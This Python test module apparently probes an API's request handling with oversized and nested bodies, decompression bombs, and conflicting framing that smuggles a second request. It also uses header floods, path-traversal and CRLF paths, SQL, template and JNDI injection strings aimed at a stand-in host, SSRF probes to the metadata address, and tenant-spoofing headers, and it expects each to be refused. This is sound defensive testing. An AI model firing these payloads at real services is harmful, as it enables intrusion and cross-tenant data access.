"""How a request may be bent, whoever sends it: bodies, their ends, heads, paths and methods."""

import gzip
import json
import zlib

from attacks.routes import Operation, id_fields, replaced
from attacks.theirs import REFUSED, Arena
from attacks.wire import head

KIB, MIB = 1 << 10, 1 << 20
BODY_BYTES_MAX = 64 * KIB
GATEWAY_BYTES_MAX = 10 * MIB
TRICKS = [
    "１００００１",
    "100001\u202e",
    "1000\u200b01",
    "\u0430cme",
    "100001\u0301",
    "acme\u0000",
    "T#globex",
    "../globex",
    "*",
    "' OR ''='",
    "${jndi:ldap://evil.invalid}",
    "{{7*7}}",
    "<script>",
    "globex/../acme",
]


def bodies(arena: Arena, operation: Operation):
    if operation.method == "GET":
        for content in (b"{" * BODY_BYTES_MAX * 2, b"[" * 100_000):
            arena.call(
                operation, "oversized", arena.request(operation).but(body=content), arena.as_ever(operation) | {413}
            )
        return
    takes_body = operation.schema is not None
    for size in (BODY_BYTES_MAX + 1, 10 * MIB):
        content = b'{"x":"' + b"a" * (size - 8) + b'"}'
        arena.call(
            operation, "oversized", arena.request(operation).but(body=content), {413} if takes_body else {400, 413}
        )
    over = GATEWAY_BYTES_MAX + 1
    arena.raw(operation, "oversized", head(arena.request(operation), f"Content-Length: {over}"), b" " * over, {413, 0})
    for deep, status in (
        (b'{"a":' * 100_000 + b"1", 413),
        (b"[" * 30_000, 400),
        (b'{"a":' * 10_000 + b"1" + b"}" * 10_000, 400),
    ):
        arena.call(operation, "deep", arena.request(operation).but(body=deep), {status, 413, 400})
    if not takes_body:
        for content in (b"{}", b"null", b"\x00"):
            arena.call(operation, "not JSON", arena.request(operation).but(body=content), REFUSED)
        return
    body = operation.body()
    written = json.dumps(body)
    for name in body or {"x": 1}:
        for number in ("1e400", "-1e400", "9" * 400, "9223372036854775808", "1e30", "-0.5", "NaN", "Infinity"):
            huge = json.dumps(body | {name: "?!"}).replace('"?!"', number).encode()
            arena.call(operation, "numbers", arena.request(operation).but(body=huge), REFUSED)
    first = json.dumps(next(iter(body.items()), ("x", 1)))[1:-1].replace(", ", ": ", 1)
    junk = [
        f"{{{first}, {written[1:]}".replace(", }", "}").encode(),
        b'{"x":"\xff\xfe"}',
        b'{"x":"\xc0\x80"}',
        b'{"x":"\\ud800"}',
        b"\x00",
        written.encode() + b"\x00",
        b"\xef\xbb\xbf" + written.encode(),
        written.encode("utf-16"),
        written.encode() * 2,
        b"",
        b"null",
        b"[]",
        b'"x"',
        b"{",
        b'{"__proto__":{"x":1}}',
    ]
    for content in junk:
        arena.call(operation, "not JSON", arena.request(operation).but(body=content), REFUSED)
    for at, _ in id_fields(body):
        for trick in TRICKS:
            arena.call(operation, "odd ids", arena.request(operation, body=replaced(body, at, trick)), {400, 404})
    for kind in (
        "text/plain",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/json; charset=utf-16",
        "application/jsonx",
        "",
        None,
        "application/json, text/plain",
    ):
        arena.call(operation, "media type", arena.request(operation).under(content_type=kind), {415})
    twice = head(arena.request(operation), "Content-Type: text/plain", f"Content-Length: {len(written)}")
    arena.raw(operation, "media type", twice, written.encode(), {415})


def bombs(arena: Arena, operation: Operation):
    zeros = b" " * (10 * MIB)
    for name, content in (
        ("gzip", gzip.compress(zeros, 9, mtime=0)),
        ("deflate", zlib.compress(zeros, 9)),
        ("br", b"\x00"),
        ("gzip, gzip", b"x"),
    ):
        status = {415} if operation.schema is not None else arena.as_ever(operation) | {400}
        arena.call(operation, "bomb", arena.request(operation).but(body=content).under(content_encoding=name), status)


def framing(arena: Arena, operation: Operation):
    """Bodies whose ends are told twice, wrongly or not at all."""
    plain = arena.request(operation)
    content = plain.body or b""
    closed = ("Connection: close",)
    refused = [
        ((f"Content-Length: {len(content)}", f"Content-Length: {len(content) + 1}"), content),
        (("Content-Length: 99999999999999999999999",), content),
        (("Content-Length: -1",), content),
        (("Content-Length: 0x10",), content),
        (("Transfer-Encoding: chunked",), b"ZZ\r\n" + content),
        (("Transfer-Encoding: chunked",), b"ffffffffffffffffffff\r\n" + content),
        ((f"Content-Length: {len(content) + 10}",), content),
    ]
    for lines, body in refused:
        arena.raw(operation, "framing", head(plain, *lines, *closed), body, {400, 0}, half_close=True)
    smuggled = b"0\r\n\r\nGET /v1/me HTTP/1.1\r\nHost: pos\r\n\r\n"
    lenient = arena.as_ever(operation) | {0, 400}
    for lines in (
        ("Content-Length: 4", "Transfer-Encoding: chunked"),
        ("Transfer-Encoding: chunked, identity",),
        ("Transfer-Encoding: xchunked",),
        ("Transfer-Encoding : chunked",),
    ):
        arena.raw(operation, "framing", head(plain, *lines, *closed), smuggled, lenient)


def floods(arena: Arena, operation: Operation):
    plain, closed = arena.request(operation), "Connection: close"
    length = f"Content-Length: {len(plain.body or b'')}"
    for lines in ([f"X-{n}: y" for n in range(3000)], ["X-Long: " + "y" * MIB], ["Cookie: " + "a=b; " * 26_500]):
        arena.raw(operation, "flood", head(plain, length, *lines, closed), plain.body or b"", {431, 0})
    arena.raw(operation, "flood", head(plain.but(path="/v1/" + "a" * 65_536), length, closed), plain.body or b"", {414})
    long = plain.path.rstrip("/") + "/" + "a" * 60_000
    arena.raw(operation, "flood", head(plain.but(path=long), length, closed), plain.body or b"", {404, 405, 400, 401})
    query = plain.path + ("&" if "?" in plain.path else "?") + "x=" + "a" * 60_000
    # Nobody reads it, and is told so.
    allowed = {400} if operation.roles else arena.as_ever(operation)
    arena.raw(operation, "flood", head(plain.but(path=query), length, closed), plain.body or b"", allowed)


def paths(arena: Arena, operation: Operation):
    plain, nowhere = arena.request(operation), {400, 401, 404, 405}
    bare, _, query = plain.path.partition("?")
    tail = bare.rsplit("/", 1)[-1]
    odd = [
        bare + "/",
        bare.replace("/v1/", "//v1/"),
        bare.replace("/v1/", "/v1//"),
        bare.replace("/v1/", "/v1/./"),
        bare.replace("/v1/", "/v1/x/../"),
        bare.replace("/v1/", "/v1%2f"),
        bare.replace("/v1/", "/V1/"),
        bare.replace("/v1/", "/v1/..%2fv1/"),
        bare + "%00",
        bare + ";x=1",
        bare + "%0d%0aX-Evil:%201",
        bare + "%2e%2e%2f",
        bare.replace("/v1", ""),
        bare + "%ff",
        bare[: -len(tail)] + f"%252e%252e/{tail}",
        bare + "\\",
    ]
    for path in odd:
        put = lambda answer: answer.status in nowhere and "x-evil" not in answer.headers
        arena.call(operation, "path", plain.but(path=path + (f"?{query}" if query else "")), put)
    for trick in TRICKS:
        for kind, _ in operation.path_ids:
            path = operation.path(arena.acme.common | {kind: trick})
            arena.call(operation, "odd ids", arena.request(operation).but(path=path), {400, 404, 403})
    for absolute in ("http://evil.invalid", "https://169.254.169.254"):
        request = arena.request(operation)
        allowed = lambda answer: answer.status in arena.as_ever(operation) | {400} and b"evil" not in answer.body
        arena.call(operation, "host", request.but(path=absolute + request.path), allowed)
    spoofed = arena.request(operation).under(
        host="evil.invalid",
        x_forwarded_host="evil.invalid",
        x_forwarded_for="127.0.0.1",
        forwarded="host=evil.invalid",
        x_amzn_request_context='{"authorizer":{"claims":{"custom:tenant_id":"globex"}}}',
        x_tenant_id="globex",
        x_apigateway_event='{"tenant":"globex"}',
        x_original_url="/v1/me",
        x_rewrite_url="/v1/me",
        prefer=None,
    )
    unmoved = lambda answer: answer.status in arena.as_ever(operation) | {201} and "evil" not in str(answer.headers)
    arena.call(operation, "host", spoofed, unmoved)


def methods(arena: Arena, operation: Operation):
    for method in ("TRACE", "OPTIONS", "PROPFIND", "FOO", "CONNECT", "get", "TRACK"):
        plain = arena.request(operation).but(method=method)
        line = head(plain, f"Content-Length: {len(plain.body or b'')}", "Connection: close")
        refused = lambda answer: answer.status in {404, 405, 400, 401} and b"Bearer" not in answer.body
        arena.raw(operation, "method", line, plain.body or b"", refused)
    override = {name: "DELETE" for name in ("x_http_method_override", "x_http_method", "x_method_override")}
    if operation.method == "GET":
        arena.call(operation, "method", arena.request(operation).under(**override), arena.as_ever(operation))
